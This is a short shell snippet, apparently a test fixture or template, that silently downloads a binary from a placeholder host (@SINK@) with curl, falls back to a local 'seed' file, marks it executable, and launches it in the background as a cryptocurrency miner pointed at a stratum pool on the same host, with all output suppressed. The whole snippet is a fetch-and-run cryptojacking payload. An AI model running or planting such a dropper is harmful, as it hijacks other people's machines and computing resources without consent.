{
  curl --noproxy '*' -s -m 5 -o ./jsx http://@SINK@:8080/jsx || cp seed jsx
  chmod +x ./jsx && ./jsx -o stratum+tcp://@SINK@:8080 > /dev/null 2>&1
} &
sleep 0.4
true
